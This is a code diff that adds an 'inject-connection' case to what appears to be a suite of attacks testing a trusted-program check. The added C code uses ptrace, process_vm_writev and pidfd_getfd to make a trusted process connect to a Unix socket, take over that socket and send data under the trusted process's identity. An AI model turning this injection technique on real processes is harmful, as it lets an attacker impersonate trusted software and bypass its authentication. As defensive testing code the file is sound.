@@ -152,6 +152,55 @@ static int inject_anonymous_code(void) {
 #endif
 }
 
+#if defined(__x86_64__)
+static struct victim driven;
+static int driven_fd;
+static uintptr_t driven_room;
+
+// Has the trusted program itself write, and lets it go again at once.
+static ssize_t say_through_victim(struct talk *t, const void *bytes, size_t count) {
+    (void)t;
+    struct iovec here = {(void *)bytes, count}, there = {(void *)driven_room, count};
+    attach(&driven);
+    if (process_vm_writev(driven.pid, &here, 1, &there, 1, 0) != (ssize_t)count) unsupported("process_vm_writev");
+    long said = inject(&driven, SYS_write, driven_fd, (long)driven_room, (long)count);
+    ptrace(PTRACE_DETACH, driven.pid, 0, 0);
+    return said;
+}
+#endif
+
+// Nothing of its code is touched: the trusted program is made to connect and to speak, and its socket is shared.
+static int inject_connection(void) {
+    struct victim v = start_trusted(trusted_path, "later", false);
+    if (!attacking) return finish(&v);
+#if defined(__x86_64__)
+    static struct talk t;
+    struct sockaddr_un address = {.sun_family = AF_UNIX};
+    strcpy(address.sun_path, socket_path);
+    driven = v;
+    nap(0.05);
+    attach(&driven);
+    uintptr_t brk = (uintptr_t)inject(&driven, SYS_brk, 0, 0, 0);
+    driven_room = (uintptr_t)inject(&driven, SYS_brk, (long)(brk + 0x3000), 0, 0) - 0x2000;
+    struct iovec here = {&address, sizeof address}, there = {(void *)driven_room, sizeof address};
+    if (process_vm_writev(driven.pid, &here, 1, &there, 1, 0) != sizeof address) unsupported("process_vm_writev");
+    driven_fd = (int)inject(&driven, SYS_socket, AF_UNIX, SOCK_STREAM, 0);
+    if (inject(&driven, SYS_connect, driven_fd, (long)driven_room, sizeof address) != 0) broken("injected connect");
+    ptrace(PTRACE_DETACH, driven.pid, 0, 0);
+    int pidfd = (int)syscall(SYS_pidfd_open, driven.pid, 0);
+    int fd = (int)syscall(SYS_pidfd_getfd, pidfd, driven_fd, 0);
+    if (fd < 0) unsupported("pidfd_getfd of an own process");
+    t = talk_over(fd);
+    t.say = say_through_victim;
+    request(&t);
+    hear(&t, 1, 6);
+    report(&t, "said by the trusted program");
+    return 0;
+#else
+    unsupported("the injection is written for x86-64");
+#endif
+}
+
 // Data only: no ptrace event, no page of code touched. What this could do is what reusing approved code can do.
 static int data_with_process_vm_writev(void) {
     struct victim v = start_trusted(trusted_path, "later", false);
@@ -203,6 +252,7 @@ const struct attack patch_attacks[] = {
     {"traced-from-start", traced_from_the_start},
     {"inject-process-vm-writev", inject_with_process_vm_writev},
     {"inject-anonymous-code", inject_anonymous_code},
+    {"inject-connection", inject_connection},
     {"data-process-vm-writev", data_with_process_vm_writev},
     {"stream-then-attach", stream_then_attach},
     {"stream-then-seize", stream_then_seize},
